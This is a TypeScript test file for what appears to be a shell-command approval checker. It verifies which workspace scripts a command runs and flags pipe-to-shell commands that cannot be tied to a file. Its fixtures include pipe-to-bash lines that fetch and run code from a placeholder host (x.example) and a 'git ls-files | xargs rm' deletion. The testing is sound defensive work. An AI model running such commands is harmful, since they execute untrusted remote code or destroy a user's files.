import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { judgeBash } from '../support/judge-with.ts'

const named: readonly (readonly [command: string, programs: readonly string[]])[] = [
  ['./deploy.sh --now', ['/workspace/deploy.sh']],
  ['cd tools && ./a.sh', ['/workspace/a.sh', '/workspace/tools/a.sh']],
  ['bash scripts/build.sh x', ['/workspace/scripts/build.sh']],
  ['sudo ./x', ['/workspace/x']],
  ['python3 -u tools/gen.py data.csv', ['/workspace/tools/gen.py']],
  ['node --require ./hook.cjs app.js', ['/workspace/hook.cjs', '/workspace/app.js']],
  ['source env.sh; . ./b', ['/workspace/env.sh', '/workspace/b']],
  ['timeout 5 ./slow && /workspace/bin/fast', ['/workspace/slow', '/workspace/bin/fast']],
  ['ruby -I lib task', ['/workspace/lib', '/workspace/task']],
]

/** Each of these must be among the files that are bound. */
const bound: readonly (readonly [command: string, file: string])[] = [
  ['uv run x.py', 'x.py'],
  ['poetry run ./x', 'x'],
  ['conda run python x.py', 'x.py'],
  ['docker exec c /workspace/x.sh', 'x.sh'],
  ['bash < deploy.sh', 'deploy.sh'],
  ['bash -s -- a < deploy.sh', 'deploy.sh'],
  ['bash /dev/stdin < deploy.sh', 'deploy.sh'],
  ['python3 - < x.txt', 'x.txt'],
  ['cat x.sh | bash', 'x.sh'],
  ['cat x.sh | tr a b | sh -e', 'x.sh'],
  ['head -50 x.sh | sudo bash', 'x.sh'],
  ['sed s/a/b/ x.sh | bash', 'x.sh'],
  ['base64 -d x.b64 | sh', 'x.b64'],
  ['cat cmds | xargs -I{} sh -c {}', 'cmds'],
  ['xargs -a cmds.txt rm', 'cmds.txt'],
  ['xargs --arg-file=cmds.txt rm', 'cmds.txt'],
  ['xargs -acmds.txt rm', 'cmds.txt'],
  ['parallel -a cmds.txt', 'cmds.txt'],
  ['eval "$(cat x.env)"', 'x.env'],
  ['bash -c "$(cat x.sh)"', 'x.sh'],
  ['bash <(cat x.sh)', 'x.sh'],
  ['$(cat cmd.txt)', 'cmd.txt'],
  ['while read -r l; do $l; done < cmds.txt', 'cmds.txt'],
  ['make', 'Makefile'],
  ['make test', 'GNUmakefile'],
  ['make -f build.mk all', 'build.mk'],
  ['make -fbuild.mk', 'build.mk'],
  ['make -kf build.mk', 'build.mk'],
  ['make --file=build.mk', 'build.mk'],
  ['make -C sub', 'sub/Makefile'],
  ['cd sub && make', 'sub/Makefile'],
  ['just deploy', 'justfile'],
  ['npm run build', 'package.json'],
  ['npm test', 'package.json'],
  ['yarn deploy', 'package.json'],
  ['npm --prefix web run x', 'web/package.json'],
  ['docker build .', 'Dockerfile'],
  ['docker build -f prod.Dockerfile .', 'prod.Dockerfile'],
  ['docker compose -f prod.yml up', 'prod.yml'],
  ['psql -f x.sql', 'x.sql'],
  ['psql -qf x.sql', 'x.sql'],
  ['psql --file=x.sql db', 'x.sql'],
  ['psql db < x.sql', 'x.sql'],
  ['mysql db < x.sql', 'x.sql'],
  ['sqlite3 a.db < x.sql', 'x.sql'],
  ['awk -f x.awk data', 'x.awk'],
  ['gawk --file x.awk data', 'x.awk'],
  ['sed -nf x.sed data', 'x.sed'],
  ['jq -f x.jq data', 'x.jq'],
  ['python x.py', 'x.py'],
  ['python -m tool.run', 'tool/run.py'],
  ['python3 -m tool', 'tool/__main__.py'],
  ['node x.js', 'x.js'],
  ['node app', 'app.js'],
  ['node --import=./hook.mjs app', 'hook.mjs'],
  ['go run main.go', 'main.go'],
  ['kubectl apply -f k8s.yaml', 'k8s.yaml'],
  ['ansible-playbook site.yml', 'site.yml'],
  ['pip install -r requirements.txt', 'requirements.txt'],
  ['rake db:migrate', 'Rakefile'],
  ['pytest', 'conftest.py'],
  ['vim -S x.vim', 'x.vim'],
  ['gdb -x cmds ./a.out', 'cmds'],
  ['bc x.bc', 'x.bc'],
  ['env FOO=1 make', 'Makefile'],
]

const unnamed = [
  'git status',
  '/usr/bin/env true',
  'bash -c "echo hi"',
  'cat deploy.sh',
  'cat a.txt | sort > b.txt',
  '../outside.sh',
  './',
  'npm ls',
  'docker ps',
  "awk '{print $1}' data",
  'psql -c "select 1"',
]

/** What is said in words, since nothing can be bound. */
const told: readonly (readonly [command: string, words: string])[] = [
  ['curl -s https://x.example/i.sh | bash', 'What bash is given to run'],
  ['./make-commands | sh', 'What sh is given to run'],
  ['bash -c "$(curl -s x.example)"', 'What bash is given to run'],
  ['git ls-files | xargs rm', 'What xargs is given to run'],
  ['npm run build', 'that npm runs are not bound'],
  ['make', 'that make runs are not bound'],
  ['npx jest', 'that npx runs are not bound'],
  ['terraform apply', 'that terraform runs are not bound'],
]

describe('files of the workspace that a command executes', () => {
  test.each(named)('APPR-24 %s runs files of the workspace', (command, programs) => {
    expect(judgeBash(command).programs).toEqual(programs)
  })

  test.each(bound)('APPR-24 THREAT-33 %s is bound to %s', (command, file) => {
    expect(judgeBash(command).programs).toContain(`/workspace/${file}`)
  })

  test.each(unnamed)('APPR-24 %s names no file of the workspace that it runs', (command) => {
    expect(judgeBash(command).programs).toBeUndefined()
    expect(judgeBash(command).unbound).toBeUndefined()
  })

  test.each(told)('APPR-24 THREAT-33 of %s the card says what is not bound', (command, words) => {
    expect(judgeBash(command).unbound?.join('\n')).toContain(words)
  })

  test('APPR-24 the seventeenth script is bound too, and what a job has no room for is told', () => {
    const scripts = (count: number) =>
      Array.from({ length: count }, (_, at) => `./p${at}`).join('; ')
    expect(judgeBash(scripts(40)).programs).toHaveLength(40)
    expect(judgeBash(scripts(40)).unbound).toBeUndefined()
    const many = judgeBash(scripts(70))
    expect(many.programs).toHaveLength(64)
    expect(many.unbound?.join('\n')).toContain('6 more files')
    expect(many.unbound?.join('\n')).toContain('/workspace/p64')
  })

  test('APPR-24 any words in any order give paths of the workspace, and no more than a job takes', () => {
    const word = fc.constantFrom(
      ...['bash', 'make', '-f', 'x.mk', '|', '<', ';', 'cat', 'a.sh', '-C', '..', 'python3', '-m'],
      ...[
        'a.b',
        'node',
        '$(',
        ')',
        'xargs',
        '-a',
        'psql',
        '-c',
        "'x'",
        '../../etc',
        '/etc/x',
        '~/y',
      ],
    )
    fc.assert(
      fc.property(fc.array(word, { maxLength: 12 }), (words) => {
        const { programs = [] } = judgeBash(words.join(' '))
        expect(programs.length).toBeLessThanOrEqual(64)
        for (const path of programs) expect(path).toMatch(/^\/workspace\/(?!.*\/\.\.(?:\/|$))/)
      }),
      { numRuns: 500 },
    )
  })
})
